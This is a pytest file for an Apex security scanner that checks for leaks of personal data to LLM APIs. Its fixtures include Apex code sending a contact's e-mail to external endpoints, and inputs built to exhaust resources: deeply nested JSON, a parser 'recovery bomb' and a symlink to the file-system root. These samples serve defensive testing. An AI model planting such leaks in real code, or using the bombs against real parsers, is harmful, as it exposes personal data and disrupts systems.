    assert facts.external_services[0].servers == ("https://api.openai.com/v1",) and not diags


def sent_to(endpoint: str) -> dict[str, str]:
    """classes/Chain.cls, which sends a contact's e-mail (line 7) to the endpoint expression given."""
    return {"classes/Chain.cls": f"""\
        public class Chain {{
            public static void go(Integer n, Id contactId) {{
                {SOURCE_LINE}
                HttpRequest req = new HttpRequest();
                req.setEndpoint({endpoint});
                req.setBody(c.Email);
                new Http().send(req);
            }}
        }}"""}


def test_300_term_chained_ternary_through_the_cli_and_its_cache(tmp_path):
    """Valid Apex that made cache.encode recurse too deep in the default configuration."""
    chain = "".join(f"n == {i} ? 'v{i}' : " for i in range(1, 300)) + "'z'"
    endpoint = "n == 0 ? 'https://api.openai.com/v1/chat/completions' : " + chain
    source = LEAK_SOURCE.replace("return LeakClient", f"Integer n = 0;\n        String u = {chain};\n        return LeakClient")
    root = project_at(tmp_path / "p", {**LEAK, "classes/LeakSource.cls": source, **sent_to(endpoint)})
    cold = invoke("scan", str(root), "--format", "json")
    warm = invoke("scan", str(root), "--format", "json")  # the facts come from the cache this time
    assert cold.exit_code == warm.exit_code == 1 and cold.stdout == warm.stdout
    sinks = {(f["location"]["path"].rsplit("/", 1)[-1], f["rule"]) for f in json.loads(cold.stdout)["findings"]}
    assert {("LeakClient.cls", "APX-LLM-001"), ("Chain.cls", "APX-LLM-001")} <= sinks


@pytest.mark.parametrize("terms", [5_000, 50_000])
def test_ternary_chains_as_endpoints_are_resolved_without_recursion(tmp_path, terms):
    """The endpoint resolver recursed once per ternary (3,000: RecursionError); a chain is now one choice."""
    chain = "n == 0 ? 'https://api.openai.com/v1/chat/completions' : " + "".join(
        f"n == {i} ? 'https://h{i}.bank.eu' : " for i in range(1, terms)) + "'https://z.bank.eu'"
    root = project_at(tmp_path, {**LEAK, **sent_to(chain)})
    result = scan_project(root, POLICY)
    assert leak_found(result, (f"{DEFAULT}/classes/Chain.cls", 7))


def test_deep_json_in_an_external_service_schema_is_reported(tmp_path):
    deep = '{"a": ' * 100_000 + "1" + "}" * 100_000
    rel = "externalServiceRegistrations/Deep.externalServiceRegistration-meta.xml"
    result = scan_project(project_at(tmp_path, {**LEAK, rel: ESR.format(schema=deep)}), POLICY)
    assert leak_found(result)
    (diag,) = reported(result, f"{DEFAULT}/{rel}")
    assert diag.stage == "limit" and "nested too deeply" in diag.message


def test_deep_json_in_sfdx_project_json_is_reported_and_the_folder_scanned(tmp_path):
    root = project_at(tmp_path, LEAK)
    (root / "sfdx-project.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    result = scan_project(root)
    assert leak_found(result)
    assert "nested too deeply" in reported(result, "sfdx-project.json")[0].message


def test_deep_json_as_a_baseline_is_a_usage_error(tmp_path):
    root = project_at(tmp_path / "p", LEAK)
    baseline = tmp_path / "old.sarif"
    baseline.write_text('{"runs": ' + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8")
    r = CliRunner().invoke(main, ["scan", str(root), "--baseline", str(baseline)])
    assert r.exit_code == 2 and "nested too deeply" in r.stderr, r.output


@pytest.mark.parametrize("document", [
    '{"version": "2.1.0", "runs": [{"tool": []}]}',
    '{"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "apexscan"}}, "results": [{"partialFingerprints": []}]}]}',
])
def test_baseline_of_the_wrong_shape_is_a_usage_error(tmp_path, document):
    root = project_at(tmp_path / "p", LEAK)
    (tmp_path / "old.sarif").write_text(document, encoding="utf-8")
    r = CliRunner().invoke(main, ["scan", str(root), "--baseline", str(tmp_path / "old.sarif")])
    assert r.exit_code == 2 and "not a usable baseline" in r.stderr, r.output


def test_5000_character_package_directory_is_reported(tmp_path):
    root = project_at(tmp_path, LEAK)
    (root / "sfdx-project.json").write_text(json.dumps({"packageDirectories": [
        {"path": "x" * 5000}, {"path": "force-app"}]}), encoding="utf-8")
    result = scan_project(root)
    assert leak_found(result)
    assert any("cannot be read" in d.message for d in reported(result, "sfdx-project.json"))


@pytest.mark.skipif(sys.platform == "darwin", reason="macOS file systems refuse names that are not UTF-8")
def test_file_name_that_is_not_utf8_reaches_every_report_exactly(tmp_path):
    """Every SARIF and JSON output crashed on it (UnicodeEncodeError): the URI now carries the
    name's bytes percent-encoded, the JSON a \\udcXX escape that reads back to the same name."""
    root = project_at(tmp_path / "p", LEAK)
    classes = os.fsencode(root / DEFAULT / "classes")
    os.rename(classes + b"/LeakClient.cls", classes + b"/Leak\xe9Client.cls")
    name = os.fsdecode(b"Leak\xe9Client.cls")
    for fmt in ("sarif", "json"):
        out = tmp_path / f"r.{fmt}"
        r = invoke("scan", str(root), "--format", fmt, "-o", str(out))
        assert r.exit_code == 1, r.output
        text = out.read_bytes().decode("utf-8")  # valid UTF-8
        doc = json.loads(text)
        if fmt == "sarif":
            uris = {loc["physicalLocation"]["artifactLocation"]["uri"]
                    for res in doc["runs"][0]["results"] for loc in res["locations"]}
            assert f"{DEFAULT}/classes/Leak%E9Client.cls" in uris
        else:
            paths = {f["location"]["path"] for f in doc["findings"]}
            assert f"{DEFAULT}/classes/{name}" in paths and (root / f"{DEFAULT}/classes/{name}").is_file()
    # JSON keeps the name exact; pages people read show the stray byte visibly (report/visible.py)
    for fmt, shown in (("json", "Leak\\udce9Client.cls"), ("markdown", "Leak&lt;U+DCE9&gt;Client.cls"),
                       ("html", "Leak&lt;U+DCE9&gt;Client.cls")):
        out = tmp_path / f"inventory.{fmt}"
        r = invoke("inventory", str(root), "--format", fmt, "-o", str(out))
        assert r.exit_code == 0, r.output
        assert shown in out.read_bytes().decode("utf-8"), fmt


@pytest.mark.parametrize("link", ["/", ".."])
def test_symlink_to_the_root_or_an_enclosing_folder_is_refused(tmp_path, link):
    """`sf -> /` committed where the workflow scans `sf/` walked the whole file system."""
    project_at(tmp_path / "repo", LEAK)
    (tmp_path / "repo" / "sf").symlink_to(link, target_is_directory=True)
    r = CliRunner().invoke(main, ["scan", str(tmp_path / "repo" / "sf")])
    assert r.exit_code == 2 and ("not a project folder" in r.stderr or "around the link itself" in r.stderr), r.output


def test_a_symlinked_project_folder_elsewhere_is_still_scanned(tmp_path):
    root = project_at(tmp_path / "real", LEAK)
    (tmp_path / "link").symlink_to(root, target_is_directory=True)
    assert leak_found(scan_project(tmp_path / "link"))


def test_the_walk_stops_at_its_bound_and_says_so(tmp_path):
    from apexscan.engine.limits import LIMIT, Limits
    root = project_at(tmp_path, {**LEAK, **{f"classes/many/M{i}.cls": "public class M {}" for i in range(50)}})
    project = discover([root], Limits(walk_entries=30))
    (diag,) = [d for d in project.diagnostics if d.stage == LIMIT]
    assert "more than 30 folders and files" in diag.message
    assert len(project.files) < 53


# A phrase repeated inside a map literal: tree-sitter's error recovery is super-linear on it (54 KB:
# 3 s; 247 KB, found by benchmarks/fuzz.py: 109 s; 3 MB: hours).
RECOVERY_BOMB = (b"public class Bomb {\n    void m() {\n        f(new Map<String, Object>{ 'k' => client.Tax_I"
                 + b"FROM Contact WHERE Id = :co" * 2000 + b"d__c, 'c' => text }));\n    }\n}\n")


def test_a_parse_that_needs_too_many_steps_is_stopped_and_reported():
    from apexscan.frontends.parsing import parse
    tree, _, diags = parse("apex", "Bomb.cls", RECOVERY_BOMB)
    assert tree is None and diags[-1].stage == "limit" and "parsing needs more than 55,4" in diags[-1].message
    tree, _, diags = parse("apex", "Bomb.cls", RECOVERY_BOMB[:3000] + b"}}")
    assert tree is not None  # the same shape, small: parsed
    tree, _, diags = parse("apex", "Bomb.cls", RECOVERY_BOMB)  # the parser starts afresh after a stop
    assert tree is None and diags[-1].stage == "limit"


def test_the_largest_real_classes_parse_well_within_the_step_bound():
    """MetadataService.cls-like code (1 MB of generated inner classes) needs a few thousand steps."""
    from apexscan.engine.limits import LIMITS
    from apexscan.frontends.parsing import _parse_bounded, parser_for
    inner = "".join(f"    public class Type{i} {{\n        public String field{i};\n        private String[] field{i}_type_info "
                    f"= new String[]{{'field{i}','http://soap.sforce.com/2006/04/metadata',null,'1','1','false'}};\n"
                    "    }\n" for i in range(4500))
    source = f"public class MetadataService {{\n{inner}}}\n".encode()
    assert len(source) > 900_000
    steps = LIMITS.parse_steps + len(source) * LIMITS.parse_steps_per_kb // 1000
    assert _parse_bounded(parser_for("apex"), source, steps // 10) is not None  # a tenth of the bound is enough


@pytest.mark.slow
def test_the_error_recovery_bomb_found_by_fuzzing_finishes(tmp_path):
    """270 KB of it, through a whole scan: minutes without the step bound, seconds with it."""
    project_at(tmp_path, {**LEAK, "classes/Bomb.cls": RECOVERY_BOMB.replace(
        b"FROM Contact WHERE Id = :co" * 2000, b"FROM Contact WHERE Id = :co" * 10_000)})
    findings, diagnostics = map(int, scan_in_child(tmp_path, timeout=120).split())
    assert findings >= 1 and diagnostics >= 1  # the leak elsewhere; the bomb reported as not analysed
